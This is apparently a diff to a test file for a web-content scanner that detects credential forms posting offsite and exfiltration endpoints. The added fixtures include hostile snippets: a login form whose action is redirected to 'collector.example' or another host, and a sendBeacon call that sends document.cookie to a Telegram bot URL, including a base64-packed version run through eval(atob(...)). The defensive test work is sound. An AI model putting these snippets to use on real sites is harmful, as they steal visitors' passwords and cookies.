@@ -2,9 +2,8 @@ import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { EXCERPT_CHARS, SEVERE_RULES, excerptOf } from "@/lib/scan/findings";
 import { scanRules } from "@/lib/schemas";
 import { reportLines } from "@/lib/deploy/report-text";
-import { brandIn, parseRefresh } from "@/lib/scan/html";
+import { brandIn, MAX_NESTING, parseRefresh } from "@/lib/scan/html";
 import { DEFAULT_BRANDS, brandList, executableHeader, redirectUrls, scanFile } from "@/lib/scan/rules";
-import { MAX_NESTING } from "@/lib/scan/html";
 import { exfiltrationEndpoint, isOffsite, resolveUrl } from "@/lib/scan/urls";
 import { lookUpUris } from "@/lib/scan/web-risk";
 import { evasions } from "../support/scan-evasions";
@@ -107,6 +106,9 @@ f.action = "https://collector.example/p";
 var p = document.createElement("input");
 p.type = "password";
 f.appendChild(p);
+var q = document.createElement("input");
+q.setAttribute("type", "password");
+f.appendChild(q);
 document.body.appendChild(f);`;
     expect(found("make.js", js)).toEqual([["credential-form-offsite", 2]]);
     expect(found("make.js", js.replace("https://collector.example/p", "/p"))).toEqual([]);
@@ -125,6 +127,16 @@ $("#slot").html('<input type="password" name="p">');`;
 <script>$("form[name=news]").attr("action", "https://lists.example/s");
 document.forms.login.setAttribute("action", "https://collector.example/p");</script>`;
     expect(found("p.html", html)).toEqual([["credential-form-offsite", 4]]);
+  });
+
+  it("a form named by its class reaches that form only", () => {
+    const page = (sel: string) => `<form action="/in" class="login box"><input type="password"></form>
+<form class="search box"><input name="q"></form>
+<script>document.querySelector("${sel}").action = "https://www.google.com/search";</script>`;
+    expect(found("p.html", page(".search"))).toEqual([]);
+    expect(found("p.html", page("form.search"))).toEqual([]);
+    expect(found("p.html", page(".login"))).toEqual([["credential-form-offsite", 3]]);
+    expect(found("p.html", page(".box"))).toEqual([["credential-form-offsite", 3]]);
   });
 
   it("a form's onsubmit handler that sets an action elsewhere", () => {
@@ -155,6 +167,20 @@ document.forms.login.setAttribute("action", "https://collector.example/p");</scr
   it("a script cut at the byte budget: string tokens joined with + are folded", () => {
     const js = `var u = "https://api.tele" + "gram.org/bot1:x/sendMessage";\nfunction f( {`;
     expect(found("cut.js", js)).toEqual([["exfiltration-endpoint", 1]]);
+  });
+
+  it("code handed to eval, Function or setTimeout as a constant (or atob of one) is scanned as a script", () => {
+    const send = `navigator.sendBeacon("https://api.telegram.org/bot1:x/sendMessage", document.cookie)`;
+    expect(found("a.js", `var c = ${JSON.stringify(send)};\nsetTimeout(c, 10);`)).toEqual([
+      ["exfiltration-endpoint", 2],
+    ]);
+    expect(found("a.js", `new Function("d", ${JSON.stringify(send)});`)).toEqual([["exfiltration-endpoint", 1]]);
+    const packed = Buffer.from(send).toString("base64");
+    expect(found("a.js", `\n(0, eval)(atob("${packed}"));`)).toEqual([
+      ["obfuscated-script", 2],
+      ["exfiltration-endpoint", 2],
+    ]);
+    expect(found("a.js", `eval("1 + 1"); setTimeout("tick()", 100); new Function("a", "return a * 2");`)).toEqual([]);
   });
 
   it("eval.call and (0, eval) over decoded text are calls of eval", () => {
